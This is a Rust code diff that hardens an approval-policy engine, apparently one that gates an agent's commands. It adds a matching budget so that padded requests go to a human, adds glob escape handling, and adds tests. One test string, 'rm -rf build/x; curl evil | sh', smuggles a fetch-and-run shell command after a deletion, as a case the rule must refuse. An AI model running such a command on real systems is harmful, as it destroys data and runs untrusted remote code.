@@ -81,34 +81,66 @@ impl Verdict<'_> {
 }
 
 impl PolicyRule {
-    /// Whether this rule alone fits the request.
-    pub fn fits(&self, req: &PolicyRequest<'_>) -> bool {
+    /// Whether this rule alone fits the request; `None` when matching ran out of `budget`.
+    fn fits_within(&self, req: &PolicyRequest<'_>, budget: &mut u64) -> Option<bool> {
         let action = self
             .actions
             .as_ref()
             .is_none_or(|actions| actions.contains(&req.action));
-        let field = |glob: &Option<String>, value: Option<&str>| match glob {
-            None => true,
-            Some(g) => value.is_some_and(|v| glob_matches(g, v)),
-        };
-        action
-            && field(&self.tool, req.tool)
-            && field(&self.command, req.command.as_deref())
-            && field(&self.path, req.path)
+        if !action {
+            return Some(false);
+        }
+        for (glob, value) in [
+            (&self.tool, req.tool),
+            (&self.command, req.command.as_deref()),
+            (&self.path, req.path),
+        ] {
+            let fits = match (glob, value) {
+                (None, _) => true,
+                (Some(_), None) => false,
+                (Some(g), Some(v)) => glob_fits(g, v, budget)?,
+            };
+            if !fits {
+                return Some(false);
+            }
+        }
+        Some(true)
+    }
+
+    /// Whether this rule alone fits the request (`None`: matching would cost more than
+    /// `EVALUATION_STEPS`).
+    pub fn fits(&self, req: &PolicyRequest<'_>) -> Option<bool> {
+        let mut budget = EVALUATION_STEPS;
+        self.fits_within(req, &mut budget)
     }
 }
 
 impl ApprovalPolicy {
+    /// The first rule that fits decides, else the default. A request that would take more than
+    /// `EVALUATION_STEPS` to match (pathological `?` globs over a very long text) is left to a
+    /// human: `ask`, whatever the rules say, so no padding can slip a request past a rule.
     pub fn evaluate(&self, req: &PolicyRequest<'_>) -> Verdict<'_> {
-        match self.rules.iter().find(|r| r.fits(req)) {
-            Some(rule) => Verdict {
-                decision: rule.decision,
-                rule_id: Some(&rule.id),
-            },
-            None => Verdict {
-                decision: self.default_decision,
-                rule_id: None,
-            },
+        let mut budget = EVALUATION_STEPS;
+        for rule in &self.rules {
+            match rule.fits_within(req, &mut budget) {
+                Some(true) => {
+                    return Verdict {
+                        decision: rule.decision,
+                        rule_id: Some(&rule.id),
+                    };
+                }
+                Some(false) => {}
+                None => {
+                    return Verdict {
+                        decision: PolicyDecision::Ask,
+                        rule_id: None,
+                    };
+                }
+            }
+        }
+        Verdict {
+            decision: self.default_decision,
+            rule_id: None,
         }
     }
 
@@ -174,18 +206,24 @@ impl ApprovalPolicy {
                         .as_deref()
                         .and_then(|c| serde_json::from_str::<Value>(c).ok());
                     let req = PolicyRequest::new(example.action, context.as_ref());
-                    if rule.fits(&req) != should_fit {
-                        issues.push(Issue::new(
-                            format!("rules[{i}].examples.{list}[{j}]"),
-                            if should_fit {
-                                format!("this rule (`{}`) does not fit this example", rule.id)
-                            } else {
-                                format!(
-                                    "this rule (`{}`) fits this example, which it must not",
-                                    rule.id
-                                )
-                            },
-                        ));
+                    let path = format!("rules[{i}].examples.{list}[{j}]");
+                    match rule.fits(&req) {
+                        Some(fits) if fits == should_fit => {}
+                        Some(_) if should_fit => issues.push(Issue::new(
+                            path,
+                            format!("this rule (`{}`) does not fit this example", rule.id),
+                        )),
+                        Some(_) => issues.push(Issue::new(
+                            path,
+                            format!(
+                                "this rule (`{}`) fits this example, which it must not",
+                                rule.id
+                            ),
+                        )),
+                        None => issues.push(Issue::new(
+                            path,
+                            "matching this example takes too long: shorten it or the rule's globs",
+                        )),
                     }
                 }
             }
@@ -201,67 +239,104 @@ pub fn is_rule_id(id: &str) -> bool {
             .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'-')
 }
 
+/// Steps the stepwise matcher may take for one evaluation of a policy (all its rules): enough
+/// for any real rule over any real command, and a bound on what a pathological glob over a long
+/// text can cost the store's writer (about a millisecond).
+pub const EVALUATION_STEPS: u64 = 1_000_000;
+
 /// Whether `glob` matches the whole of `text`: `*` any run of characters (`/` included), `?`
-/// exactly one character, everything else itself (case-sensitive).
+/// exactly one character, `\*`, `\?` and `\\` those characters themselves, everything else
+/// itself (case-sensitive).
 pub fn glob_matches(glob: &str, text: &str) -> bool {
-    if glob.contains('?') {
-        return glob_matches_by_steps(glob, text);
+    let mut unlimited = u64::MAX;
+    glob_fits(glob, text, &mut unlimited).unwrap_or(false)
+}
+
+/// `glob_matches` within a budget of matcher steps, shared by the globs of one evaluation;
+/// `None` when it ran out.
+fn glob_fits(glob: &str, text: &str, budget: &mut u64) -> Option<bool> {
+    if glob.contains(['?', '\\']) {
+        return glob_matches_by_steps(glob, text, budget);
     }
     // Literal pieces between stars: the first must start the text, the last end it, and each
     // one between is taken at its leftmost place after the one before (a later place never
-    // leaves more room for the rest). `str::find` does the searching.
+    // leaves more room for the rest). `str::find` does the searching, in linear time.
     let Some((head, tail)) = glob.split_once('*') else {
-        return glob == text;
+        return Some(glob == text);
     };
     let (middle, last) = tail.rsplit_once('*').unwrap_or(("", tail));
     if text.len() < head.len() + last.len() || !text.starts_with(head) || !text.ends_with(last) {
-        return false;
+        return Some(false);
     }
     let mut rest = &text[head.len()..text.len() - last.len()];
     for piece in middle.split('*').filter(|p| !p.is_empty()) {
         match rest.find(piece) {
             Some(at) => rest = &rest[at + piece.len()..],
-            None => return false,
+            None => return Some(false),
         }
     }
-    true
+    Some(true)
 }
 
-/// `glob_matches` for globs with `?`: step by step, going back only to the last `*` on a
-/// mismatch (a later star can only match what an earlier one could). Bytes are compared; `?`
-/// and a star's extension step over a whole UTF-8 character, so both stay on character
-/// boundaries.
-fn glob_matches_by_steps(glob: &str, text: &str) -> bool {
+#[derive(Clone, Copy, PartialEq)]
+enum Token {
+    Star,
+    Any,
+    Byte(u8),
+}
+
+/// The glob's token at byte `i`: a star, any one character, or a literal byte (for an escape,
+/// the escaped character's first byte), with the index after it.
+fn token(p: &[u8], i: usize) -> Option<(Token, usize)> {
+    match p.get(i)? {
+        b'*' => Some((Token::Star, i + 1)),
+        b'?' => Some((Token::Any, i + 1)),
+        b'\\' if i + 1 < p.len() => Some((Token::Byte(p[i + 1]), i + 2)),
+        &c => Some((Token::Byte(c), i + 1)),
+    }
+}
+
+/// `glob_matches` for globs with `?` or escapes: step by step, going back only to the last `*`
+/// on a mismatch (a later star can only match what an earlier one could). Bytes are compared
+/// (an escaped multi-byte character's other bytes follow as plain bytes); `?` and a star's
+/// extension step over a whole UTF-8 character, so both stay on character boundaries. Each
+/// step costs one unit of `budget`.
+fn glob_matches_by_steps(glob: &str, text: &str, budget: &mut u64) -> Option<bool> {
     let (p, t) = (glob.as_bytes(), text.as_bytes());
     let (mut pi, mut ti) = (0, 0);
-    // The last star seen, and where in the text its match currently ends.
+    // After the last star seen: where the glob goes on, and where in the text its match ends.
     let mut star: Option<(usize, usize)> = None;
     while ti < t.len() {
-        match p.get(pi) {
-            Some(b'*') => {
-                star = Some((pi, ti));
-                pi += 1;
+        *budget = budget.checked_sub(1)?;
+        match token(p, pi) {
+            Some((Token::Star, next)) => {
+                star = Some((next, ti));
+                pi = next;
             }
-            Some(b'?') => {
-                pi += 1;
+            Some((Token::Any, next)) => {
+                pi = next;
                 ti += utf8_len(t[ti]);
             }
-            Some(&c) if c == t[ti] => {
-                pi += 1;
+            Some((Token::Byte(c), next)) if c == t[ti] => {
+                pi = next;
                 ti += 1;
             }
             _ => match star {
-                Some((sp, st)) => {
-                    let next = st + utf8_len(t[st]);
-                    star = Some((sp, next));
-                    pi = sp + 1;
-                    ti = next;
+                Some((after_star, st)) => {
+                    let resume = st + utf8_len(t[st]);
+                    star = Some((after_star, resume));
+                    pi = after_star;
+                    ti = resume;
                 }
-                None => return false,
+                None => return Some(false),
             },
         }
     }
-    p[pi.min(p.len())..].iter().all(|&c| c == b'*')
+    // The text is used up: what is left of the glob must be stars only.
+    while let Some((Token::Star, next)) = token(p, pi) {
+        pi = next;
+    }
+    Some(pi >= p.len())
 }
 
 /// The length of the UTF-8 character that starts with `first`.
@@ -362,19 +437,20 @@ mod tests {
 
     /// The plain recursive reading of the glob rules, to hold the fast matcher to.
     fn reference(p: &[char], t: &[char]) -> bool {
-        match p.split_first() {
-            None => t.is_empty(),
-            Some(('*', rest)) => (0..=t.len()).any(|i| reference(rest, &t[i..])),
-            Some(('?', rest)) => !t.is_empty() && reference(rest, &t[1..]),
-            Some((c, rest)) => t.first() == Some(c) && reference(rest, &t[1..]),
+        match p {
+            [] => t.is_empty(),
+            ['\\', c, rest @ ..] => t.first() == Some(c) && reference(rest, &t[1..]),
+            ['*', rest @ ..] => (0..=t.len()).any(|i| reference(rest, &t[i..])),
+            ['?', rest @ ..] => !t.is_empty() && reference(rest, &t[1..]),
+            [c, rest @ ..] => t.first() == Some(c) && reference(rest, &t[1..]),
         }
     }
 
     proptest! {
         #[test]
         fn the_matcher_agrees_with_the_plain_rules(
-            glob in "[ab*?/é]{0,8}",
-            text in "[ab/é]{0,10}",
+            glob in "[ab*?/é\\\\]{0,8}",
+            text in "[ab*?/é\\\\]{0,10}",
         ) {
             let p: Vec<char> = glob.chars().collect();
             let t: Vec<char> = text.chars().collect();
@@ -402,6 +478,15 @@ mod tests {
         assert!(!glob_matches("Git*", "git push"));
         assert!(glob_matches("*", ""));
         assert!(!glob_matches("?", ""));
+        assert!(
+            glob_matches(r"rm -rf build/\*", "rm -rf build/*"),
+            "an escaped star is a star"
+        );
+        assert!(!glob_matches(
+            r"rm -rf build/\*",
+            "rm -rf build/x; curl evil | sh"
+        ));
+        assert!(glob_matches(r"a\?b\\", "a?b\\"));
     }
 
     fn rule(id: &str, decision: PolicyDecision) -> PolicyRule {
@@ -471,6 +556,28 @@ mod tests {
             (PolicyDecision::Ask, None),
             "a rule with a glob does not fit a request without that field"
         );
+    }
+
+    #[test]
+    fn a_request_too_costly_to_match_is_left_to_a_human() {
+        let mut deny = rule("deny-b", PolicyDecision::Deny);
+        deny.command = Some("*?b".into());
+        let policy = ApprovalPolicy {
+            rules: vec![deny],
+            default_decision: PolicyDecision::Allow,
+        };
+        let ask = |command: String| {
+            let ctx = json!({"input": {"command": command}});
+            let v = policy.evaluate(&PolicyRequest::new(ApprovalAction::Command, Some(&ctx)));
+            (v.decision, v.rule_id.map(str::to_owned))
+        };
+        assert_eq!(
+            ask("ab".into()),
+            (PolicyDecision::Deny, Some("deny-b".into()))
+        );
+        assert_eq!(ask("aa".into()), (PolicyDecision::Allow, None));
+        // Padding cannot buy the default's `allow`: past the budget, a human decides.
+        assert_eq!(ask("a".repeat(1_000_000)), (PolicyDecision::Ask, None));
     }
 
     #[test]
